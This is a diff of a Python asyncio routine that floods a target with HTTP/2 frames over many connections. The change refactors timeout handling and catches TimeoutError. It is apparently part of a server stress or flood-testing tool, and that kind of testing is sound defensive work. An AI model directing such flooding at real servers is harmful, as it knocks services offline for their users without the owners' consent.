@@ -77,12 +77,14 @@ async def flood(
     clock = asyncio.get_running_loop().time
     ends_at = clock() + seconds
     while clock() < ends_at:
-        with contextlib.suppress(OSError):
+        with contextlib.suppress(OSError, TimeoutError):
             reader, writer = await asyncio.open_connection(*address, local_addr=(source, 0))
             sent.num_connections += 1
             reading = asyncio.create_task(_read_away(reader))
             try:
-                await _pour(writer, name, ends_at, reading, sent)
+                # The other side may take nothing more.
+                async with asyncio.timeout_at(ends_at):
+                    await _pour(writer, name, reading, sent)
             finally:
                 reading.cancel()
                 writer.transport.abort()
@@ -92,16 +94,12 @@ async def flood(
 
 
 async def _pour(
-    writer: asyncio.StreamWriter,
-    name: str,
-    ends_at: float,
-    reading: asyncio.Task[None],
-    sent: Sent,
+    writer: asyncio.StreamWriter, name: str, reading: asyncio.Task[None], sent: Sent
 ) -> None:
     first, frames_of = FLOODS[name]
     writer.write(PREFACE + frame(SETTINGS, 0, 0, b"") + first)
     number = 0
-    while asyncio.get_running_loop().time() < ends_at and not reading.done():
+    while not reading.done():
         data = b"".join(frames_of(number + one) for one in range(_NUM_AT_ONCE))
         number += _NUM_AT_ONCE
         writer.write(data)
